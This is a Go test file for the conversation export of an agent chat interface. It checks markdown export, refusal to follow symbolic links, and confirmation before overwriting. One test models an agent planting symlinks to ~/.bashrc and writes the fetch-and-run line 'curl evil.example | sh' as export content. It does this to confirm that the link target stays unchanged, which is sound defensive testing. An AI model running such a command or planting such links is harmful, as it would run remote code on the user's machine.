package fullscreen

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/elicit-dev/elicit/ui/internal/uitest"
)

// /export writes the conversation as markdown: the prompt, the reply and
// the decisions; the same text is what the full screen leaves in the
// scrollback on exit.
func TestExportConversation(t *testing.T) {
	d := newDriver(t, Options{Agent: uitest.DemoConfig(t)})
	d.connected()
	d.ask("/help")
	d.idle()
	path := filepath.Join(t.TempDir(), "chat.md")
	d.ask("/export " + path)
	d.waitText("conversation written to")
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	got := string(b)
	for _, want := range []string{"> /help", "/form", "connected to Demo agent"} {
		if !strings.Contains(got, want) {
			t.Errorf("export lacks %q:\n%s", want, got)
		}
	}
	if !strings.HasPrefix(d.m.Transcript(), got) {
		t.Error("the export and the scrollback text differ")
	}
}

// Issue 27, case 7: an agent that can write the directory plants symbolic
// links under the next default export names, pointing at ~/.bashrc; the
// export takes a new name and the link's target stays as it was.
func TestExportNeverFollowsPlantedLinks(t *testing.T) {
	dir := t.TempDir()
	bashrc := filepath.Join(dir, "bashrc")
	must(t, os.WriteFile(bashrc, []byte("# mine\n"), 0o644))
	name := filepath.Join(dir, "elicit-2026-01-01-000000.md")
	must(t, os.Symlink(bashrc, name))
	must(t, os.Symlink(bashrc, filepath.Join(dir, "elicit-2026-01-01-000000-2.md")))
	msg := exportNew(name, false, plainExport("curl evil.example | sh\n"))().(exportedMsg)
	if msg.err != nil || msg.path != filepath.Join(dir, "elicit-2026-01-01-000000-3.md") {
		t.Fatalf("exported to %s: %v", msg.path, msg.err)
	}
	if b, _ := os.ReadFile(bashrc); string(b) != "# mine\n" {
		t.Fatalf("the link's target was written: %q", b)
	}
	// Named explicitly: a link is refused, a file is asked about.
	msg = exportNew(filepath.Join(dir, "elicit-2026-01-01-000000-2.md"), true, plainExport("x"))().(exportedMsg)
	if msg.err == nil || !strings.Contains(msg.err.Error(), "symbolic link") {
		t.Fatalf("an explicit link: %+v", msg)
	}
	if b, _ := os.ReadFile(bashrc); string(b) != "# mine\n" {
		t.Fatalf("the link's target was written: %q", b)
	}
}

// /export FILE over a file asks first; "keep it" is selected.
func TestExportAsksBeforeReplacing(t *testing.T) {
	d := newDriver(t, Options{Agent: uitest.DemoConfig(t)})
	d.connected()
	path := filepath.Join(t.TempDir(), "notes.md")
	must(t, os.WriteFile(path, []byte("my notes\n"), 0o644))
	d.ask("/export " + path)
	d.until("the question", func() bool { _, ok := d.m.queue.front().(*overwriteModal); return ok })
	d.focus()
	d.wantOnScreen("Replace the file?", "notes.md exists", "> keep it")
	d.key("enter")
	d.waitText("was kept")
	if b, _ := os.ReadFile(path); string(b) != "my notes\n" {
		t.Fatalf("replaced without asking: %q", b)
	}
	d.ask("/export " + path)
	d.until("the question", func() bool { _, ok := d.m.queue.front().(*overwriteModal); return ok })
	d.focus()
	d.keys("down", "enter")
	d.waitText("conversation written to")
	if b, _ := os.ReadFile(path); !strings.Contains(string(b), "/export") {
		t.Fatalf("not replaced: %q", b)
	}
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}
